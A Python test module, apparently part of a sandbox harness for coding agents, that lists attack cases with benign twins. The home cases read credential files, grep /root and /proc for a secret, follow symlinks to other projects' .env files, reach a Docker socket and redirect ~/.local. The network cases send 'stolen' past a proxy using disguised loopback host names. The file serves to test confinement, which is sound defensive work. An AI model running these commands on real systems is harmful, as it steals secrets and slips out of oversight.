"""What lies in the home and beside the workspace, and where an agent may connect to."""

from __future__ import annotations

from tests.attacks.arena import KEPT_IN_HOME, KEPT_IN_TOOLS, Attack, World
from tests.attacks.edited_tests import DONE
from tests.attacks.processes import HONEST, PLAIN, calc, could, has_secret, python

_PLAIN = PLAIN._replace(outside_tmp=True)
_LISTED = _PLAIN._replace(hosts=("127.0.0.2:{port}", "api.example.org:443"))
_FILES = " ".join(f'"$REAL_HOME/{name}"' for name in KEPT_IN_HOME)
_IN_TOOLS = " ".join(f'"$REAL_HOME/{name}"' for name in KEPT_IN_TOOLS)


def _told(world: World) -> bool:
    """Say whether somebody on the machine was told the word that an agent was to keep."""
    return any(b"stolen" in data for data in world.listener.heard)


def _tool_changed(world: World) -> bool:
    tool = world.home / ".local" / "bin" / "tool"
    changed = not tool.is_file() or "made by a tool" not in tool.read_text()
    return changed or (world.outside / "bin").exists()


HOME: tuple[Attack, ...] = (
    Attack(
        name="reads what people keep in their home",
        family="home",
        project=_PLAIN,
        attack=f"cat {_FILES} > src/found 2> /dev/null",
        twin=DONE + '"$REAL_HOME/.local/bin/tool" > src/found',
        loot=has_secret,
    ),
    Attack(
        name="reads what people and programs keep beside their tools",
        family="home",
        project=_PLAIN,
        attack=f"cat {_IN_TOOLS} > src/found 2> /dev/null",
        twin=(
            f"{DONE}for name in .foundry/bin .fly/bin tools/bin scripts; do\n"
            '  "$REAL_HOME/$name/tool" > src/found || rm src/calc.py\ndone'
        ),
        loot=has_secret,
    ),
    Attack(
        name="searches the whole machine for the secret",
        family="home",
        project=_PLAIN,
        attack=(
            'for top in "$REAL_HOME" "$OUTSIDE/.." /home /root /srv /mnt /media /opt /tmp /var'
            " /proc/self/root/home /proc/1/root/root /proc/1/cwd; do\n"
            '  timeout 5 grep -rIh --exclude-dir=workspace s3cr3t-of "$top" 2> /dev/null\n'
            "done > src/found"
        ),
        twin=DONE + 'find "$REAL_HOME/.local" -type f -exec cat {} + > src/found',
        loot=has_secret,
    ),
    Attack(
        name="reads other projects beside the workspace",
        family="home",
        project=_PLAIN,
        attack=(
            'cat ../elsewhere/.env "$OUTSIDE/../elsewhere/.env" "$REAL_HOME/projects/other/.env"'
            " > src/found\nln -s ../../elsewhere src/link\n"
            "cat src/link/.env >> src/found; rm src/link"
        ),
        twin=DONE + "mkdir src/elsewhere; echo A=b > src/elsewhere/.env; cat src/elsewhere/.env",
        loot=has_secret,
    ),
    Attack(
        name="code under test reads what people keep in their home",
        family="home",
        project=_PLAIN,
        attack=calc(
            "import glob, os\nSECRET = 's3cr3t-' + 'of'\n"
            "def add(a, b):\n"
            "    home = os.path.expanduser('~')\n"
            "    here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))\n"
            "    for top in (home, os.path.join(here, '..', 'home'), os.path.join(here, '..')):\n"
            "        for path in glob.glob(top + '/**/*', recursive=True, include_hidden=True):\n"
            "            try:\n"
            "                if os.path.isfile(path) and SECRET in open(path).read(1000):\n"
            "                    return a + b\n"
            "            except (OSError, ValueError):\n"
            "                pass\n"
            "    return 0\n"
        ),
        twin=calc("import os\nHOME = os.listdir(os.path.expanduser('~'))\n" + HONEST),
    ),
    Attack(
        name="asks a program of the host by its socket in the home",
        family="home",
        project=_PLAIN,
        attack=(
            'W=$PWD; cd "$REAL_HOME/.colima/default" && $PYTHON -c \'import socket;'
            ' socket.socket(socket.AF_UNIX).connect("docker.sock")\' && touch "$W/src/could"'
        ),
        twin=DONE
        + python(
            "import os, socket\n"
            "one, two = socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)\n"
            "os.chdir('src')\n"
            "one.bind('own.sock')\none.listen()\ntwo.connect('own.sock')\nos.unlink('own.sock')\n"
        ),
        loot=could,
    ),
    Attack(
        name="leaves a link where its home will have a toolchain",
        family="home",
        project=_PLAIN,
        attack=(
            'mv ~/.local ~/moved; ln -s "$OUTSIDE" ~/.local; mkdir -p ~/.local/bin\n'
            'echo changed > "$REAL_HOME/.local/bin/tool"; rm -f "$REAL_HOME/.local/bin/tool"'
        ),
        twin=DONE + "mkdir -p ~/.config/mine ~/.local/mine && echo x > ~/.config/mine/file",
        loot=_tool_changed,
    ),
)
NETWORK: tuple[Attack, ...] = (
    Attack(
        name="connects past the proxy",
        family="network",
        project=_LISTED,
        attack=python(
            "import os, socket\n"
            "port = int(os.environ['PORT'])\n"
            "for address in ('127.0.0.1', '127.0.0.2', '127.0.0.3', '::1', 'localhost'):\n"
            "    try:\n"
            "        with socket.create_connection((address, port), timeout=3) as one:\n"
            "            one.sendall(b'stolen')\n"
            "    except OSError:\n"
            "        pass\n"
        ),
        twin=DONE
        + python(
            "import os, urllib.request\n"
            "if 'HTTP_PROXY' in os.environ:\n"
            "    url = f'http://127.0.0.2:{os.environ[\"PORT\"]}/fine'\n"
            "    assert urllib.request.urlopen(url, timeout=20).read() == b'ok'\n"
        ),
        loot=_told,
    ),
    Attack(
        name="asks the proxy for hosts by other names",
        family="network",
        project=_LISTED,
        attack=python(
            "import os, socket\n"
            "port = os.environ['PORT']\n"
            "proxy = int(os.environ.get('HTTP_PROXY', ':9').rpartition(':')[2])\n"
            "names = ['127.0.0.1', '127.0.0.3', 'localhost', '127.1', '2130706433', '0x7f000001',\n"
            "         '[::1]', '[::ffff:127.0.0.1]', '127.0.0.2.', '127.0.0.1.nip.io', '0.0.0.0',\n"
            "         '127.0.0.2@127.0.0.1', 'api.example.org@127.0.0.1', '127.0.0.2#@127.0.0.1']\n"
            "for name in names:\n"
            "    tunnel, page = f'CONNECT {name}:{port}', f'GET http://{name}:{port}/stolen'\n"
            "    for head in (tunnel, page):\n"
            "        try:\n"
            "            with socket.create_connection(('127.0.0.1', proxy), timeout=5) as one:\n"
            "                lines = [f'{head} HTTP/1.1', f'Host: 127.0.0.2:{port}', '', '']\n"
            "                one.sendall('\\r\\n'.join(lines).encode())\n"
            "                if b' 200 ' in one.recv(1000).split(b'\\r\\n')[0]:\n"
            "                    one.sendall(b'stolen')\n"
            "        except OSError:\n"
            "            pass\n"
        ),
        twin=DONE
        + python(
            "import os, socket\n"
            "proxy = os.environ.get('HTTP_PROXY')\n"
            "if proxy:\n"
            "    port = os.environ['PORT']\n"
            "    place = ('127.0.0.1', int(proxy.rpartition(':')[2]))\n"
            "    with socket.create_connection(place) as one:\n"
            "        one.sendall(f'CONNECT 127.0.0.2:{port} HTTP/1.1\\r\\n\\r\\n'.encode())\n"
            "        assert b' 200 ' in one.recv(1000)\n"
            "        one.sendall(b'fine')\n"
            "        assert b'ok' in one.makefile('rb').read()\n"
        ),
        loot=_told,
    ),
)
ATTACKS = (*HOME, *NETWORK)
